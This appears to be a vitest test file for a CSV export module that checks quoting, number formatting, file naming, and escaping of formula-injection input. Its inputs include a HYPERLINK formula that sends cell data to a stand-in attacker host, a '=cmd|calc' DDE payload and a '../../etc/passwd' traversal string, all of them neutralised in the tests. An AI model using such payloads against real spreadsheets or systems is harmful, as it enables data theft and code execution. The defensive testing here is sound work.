import { describe, expect, it } from 'vitest';
import { csvFileName, toCsv } from './csv.ts';

/** The cells of the one data line of a CSV written with a one-column header. */
function onlyCell(value: string | number | null): string {
  return toCsv(['h'], [[value]]).slice('h\r\n'.length, -'\r\n'.length);
}

describe('CSV writer', () => {
  it('separates cells with commas and ends every line with CRLF, the last one too', () => {
    expect(toCsv(['a', 'b'], [['1', '2'], ['3', '4']])).toBe('a,b\r\n1,2\r\n3,4\r\n');
    expect(toCsv(['a'], [])).toBe('a\r\n');
  });

  it('quotes cells holding commas, quotes or line breaks and doubles their quotes', () => {
    expect(onlyCell('Says "hi", twice')).toBe('"Says ""hi"", twice"');
    expect(onlyCell('two\nlines')).toBe('"two\nlines"');
    expect(onlyCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(onlyCell('a "quote"')).toBe('"a ""quote"""');
    expect(onlyCell('plain text')).toBe('plain text');
  });

  it('writes numbers as numbers, negative ones included, and leaves empty and non-finite cells empty', () => {
    expect(toCsv(['Period', 'USD'], [['Jan 2020', 571000000], ['Feb 2020', null]])).toBe('Period,USD\r\nJan 2020,571000000\r\nFeb 2020,\r\n');
    expect(onlyCell(-1)).toBe('-1');
    expect(onlyCell(-0.5)).toBe('-0.5');
    expect(onlyCell(Number.NaN)).toBe('');
    expect(onlyCell(Number.POSITIVE_INFINITY)).toBe('');
  });

  it('keeps text that starts like a formula from running in a spreadsheet', () => {
    expect(onlyCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"');
    expect(onlyCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(onlyCell('+1')).toBe("'+1");
    expect(onlyCell('-1')).toBe("'-1");
    expect(onlyCell('-5 things attackers do')).toBe("'-5 things attackers do");
    expect(onlyCell('=1+1')).toBe("'=1+1");
  });

  it('defuses a leading tab or carriage return, which spreadsheets skip before reading a formula', () => {
    expect(onlyCell('\t=cmd|calc')).toBe("'\t=cmd|calc");
    expect(onlyCell('\r=1+1')).toBe('"\'\r=1+1"');
  });

  it('leaves formula characters alone when they are not first', () => {
    expect(onlyCell('a=b')).toBe('a=b');
    expect(onlyCell('user@example.org')).toBe('user@example.org');
    expect(onlyCell('2020-01-11')).toBe('2020-01-11');
  });

  it('defuses header cells too', () => {
    expect(toCsv(['=evil', 'ok'], [])).toBe("'=evil,ok\r\n");
  });

  it('names the file after what it holds and the view', () => {
    expect(csvFileName('Reported money', '?actor=lazarus-group&from=2020-01-01')).toBe('sitrep-reported-money-actor-lazarus-group-from-2020-01-01.csv');
    expect(csvFileName('Posts over time', '')).toBe('sitrep-posts-over-time.csv');
    expect(csvFileName('posts', '?q=../../etc/passwd')).toBe('sitrep-posts-q-etc-passwd.csv');
  });
});
